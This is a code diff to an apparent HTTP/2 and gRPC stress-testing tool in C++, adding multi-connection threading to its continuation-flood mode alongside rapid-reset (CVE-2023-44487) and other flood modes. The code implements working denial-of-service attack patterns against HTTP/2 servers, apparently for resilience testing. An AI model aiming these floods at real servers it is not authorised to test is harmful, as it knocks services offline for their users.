@@ -5,7 +5,8 @@
 //   rapid-reset         raw HTTP/2: HEADERS then RST_STREAM(CANCEL) on stream n, n += 2, in
 //                       batches of --pairs-per-write (CVE-2023-44487)
 //   continuation-flood  raw HTTP/2: HEADERS without END_HEADERS, then CONTINUATION frames of one
-//                       incrementally indexed 4 KB header each, never END_HEADERS
+//                       incrementally indexed 4 KB header each, never END_HEADERS (on
+//                       --connections connections at once)
 //   big-frames          gRPC: --calls Process calls of --side x --side frames (PNG or zstd),
 //                       each on its own channel, back to back
 //   greedy-streams      gRPC: --calls DELIVERY_ALL streams, each on its own channel, sending
@@ -134,11 +135,13 @@ struct FloodTally {
   }
 };
 
-// Runs `batch(stream_id)` -> bytes on connection after connection until the deadline. `batch`
-// returns the next batch to write and the number of units (pairs, frames) in it; `first` is what
-// a new connection sends first.
+// Runs `batch(stream_id)` -> bytes on connection after connection until the deadline, on
+// `parallel` connections at once (a thread each, each with its own copies of `first` and `batch`).
+// `batch` returns the next batch to write and the number of units (pairs, frames) in it; `first`
+// is what a new connection sends first.
 template <typename First, typename Batch>
-json Flood(const Common& c, const char* name, const char* unit, First first, Batch batch) {
+json Flood(const Common& c, const char* name, const char* unit, First first, Batch batch,
+           int parallel = 1) {
   std::string host;
   int port = 0;
   if (!SplitHostPort(c.target, &host, &port)) {
@@ -147,33 +150,51 @@ json Flood(const Common& c, const char* name, const char* unit, First first, Bat
   Ready(name);
   const auto t0 = Clock::now();
   const auto deadline = Deadline(c);
-  FloodTally tally;
-  while (Clock::now() < deadline) {
-    auto conn = RawH2Connection::Connect(host, port, c.source);
-    if (!conn.ok()) {
-      ++tally.connect_failures;
-      std::this_thread::sleep_for(std::chrono::milliseconds(50));  // bounded by the deadline
-      continue;
-    }
-    ++tally.connections;
-    std::uint32_t stream = 1;
-    bool ok = (*conn)->Write(first(&stream), deadline);
-    while (ok && Clock::now() < deadline && !(*conn)->closed() && stream < (1u << 30)) {
-      std::uint64_t units = 0;
-      const std::string bytes = batch(&stream, &units);
-      ok = (*conn)->Write(bytes, deadline);
-      if (ok) {
-        ++tally.writes;
-        tally.bytes += bytes.size();
-        tally.units += units;
+  std::vector<FloodTally> tallies(static_cast<std::size_t>(parallel));
+  std::vector<std::thread> threads;
+  for (FloodTally& tally : tallies) {
+    threads.emplace_back([&, first, batch]() mutable {
+      while (Clock::now() < deadline) {
+        auto conn = RawH2Connection::Connect(host, port, c.source);
+        if (!conn.ok()) {
+          ++tally.connect_failures;
+          std::this_thread::sleep_for(std::chrono::milliseconds(50));  // bounded by the deadline
+          continue;
+        }
+        ++tally.connections;
+        std::uint32_t stream = 1;
+        bool ok = (*conn)->Write(first(&stream), deadline);
+        while (ok && Clock::now() < deadline && !(*conn)->closed() && stream < (1u << 30)) {
+          std::uint64_t units = 0;
+          const std::string bytes = batch(&stream, &units);
+          ok = (*conn)->Write(bytes, deadline);
+          if (ok) {
+            ++tally.writes;
+            tally.bytes += bytes.size();
+            tally.units += units;
+          }
+        }
+        // A moment for the server's last frames (its GOAWAY) before the count.
+        std::this_thread::sleep_for(std::chrono::milliseconds(20));
+        tally.Add((*conn)->stats());
       }
-    }
-    // A moment for the server's last frames (its GOAWAY) before the count.
-    std::this_thread::sleep_for(std::chrono::milliseconds(20));
-    tally.Add((*conn)->stats());
+    });
   }
-  json out = tally.ToJson(unit);
+  for (std::thread& t : threads) t.join();
+  FloodTally total;
+  for (const FloodTally& t : tallies) {
+    total.connections += t.connections;
+    total.connect_failures += t.connect_failures;
+    total.writes += t.writes;
+    total.bytes += t.bytes;
+    total.units += t.units;
+    total.goaways += t.goaways;
+    total.rst_received += t.rst_received;
+    for (const auto& [code, n] : t.goaway_codes) total.goaway_codes[code] += n;
+  }
+  json out = total.ToJson(unit);
   out["attack"] = name;
+  out["parallel_connections"] = parallel;
   out["seconds"] = Since(t0);
   return out;
 }
@@ -199,16 +220,16 @@ json RapidReset(const Common& c, const std::string& path, int pairs_per_write, b
 }
 
 json ContinuationFlood(const Common& c, const std::string& path, int frames_per_write,
-                       int value_bytes) {
+                       int value_bytes, int connections) {
   const std::string value(static_cast<std::size_t>(value_bytes), 'v');
-  std::uint64_t next = 0;
+  std::uint64_t next = 0;  // each connection's thread counts in its own copy
   return Flood(
       c, "continuation-flood", "continuation_frames",
       [&](std::uint32_t* stream) {
         // The request's own headers open the block, which never ends.
         return Frame(kHeaders, 0, *stream, GrpcRequestHeaders(path, c.target));
       },
-      [&](std::uint32_t* stream, std::uint64_t* units) {
+      [&value, &c, frames_per_write, next](std::uint32_t* stream, std::uint64_t* units) mutable {
         std::string out;
         for (int i = 0; i < frames_per_write; ++i, ++next) {
           out += Frame(kContinuation, 0, *stream,
@@ -216,7 +237,8 @@ json ContinuationFlood(const Common& c, const std::string& path, int frames_per_
         }
         *units = static_cast<std::uint64_t>(frames_per_write);
         return out;
-      });
+      },
+      connections);
 }
 
 // ------------------------------------------------------------------------------------------------
@@ -744,6 +766,11 @@ int main(int argc, char** argv) {
   cf->add_option("--value-bytes", value_bytes, "Bytes of each header's value")
       ->check(CLI::Range(1, 16000))
       ->capture_default_str();
+  int flood_connections = 1;
+  cf->add_option("--connections", flood_connections,
+                 "Connections flooding at once (a thread each; a closed one is replaced)")
+      ->check(CLI::Range(1, 64))
+      ->capture_default_str();
 
   auto* bf = app.add_subcommand(
       "big-frames", "Process calls of big frames, each call on its own channel, back to back");
@@ -839,7 +866,9 @@ int main(int argc, char** argv) {
       "Process calls on raw HTTP/2 connections, each sending a message but its last byte, then "
       "holding the call open");
   add_common(ip);
-  ip->add_option("--calls", calls, "Process calls")->check(CLI::Range(1, 1000))->capture_default_str();
+  ip->add_option("--calls", calls, "Process calls")
+      ->check(CLI::Range(1, 1000))
+      ->capture_default_str();
   ip->add_option("--connections", connections, "Connections the calls are spread over")
       ->check(CLI::Range(1, 64))
       ->capture_default_str();
@@ -856,7 +885,7 @@ int main(int argc, char** argv) {
   if (rr->parsed()) {
     result = RapidReset(common, path, pairs_per_write, with_message);
   } else if (cf->parsed()) {
-    result = ContinuationFlood(common, path, frames_per_write, value_bytes);
+    result = ContinuationFlood(common, path, frames_per_write, value_bytes, flood_connections);
   } else if (bf->parsed()) {
     result = BigFrames(common, calls, side, encoding, leaf);
   } else if (ip->parsed()) {
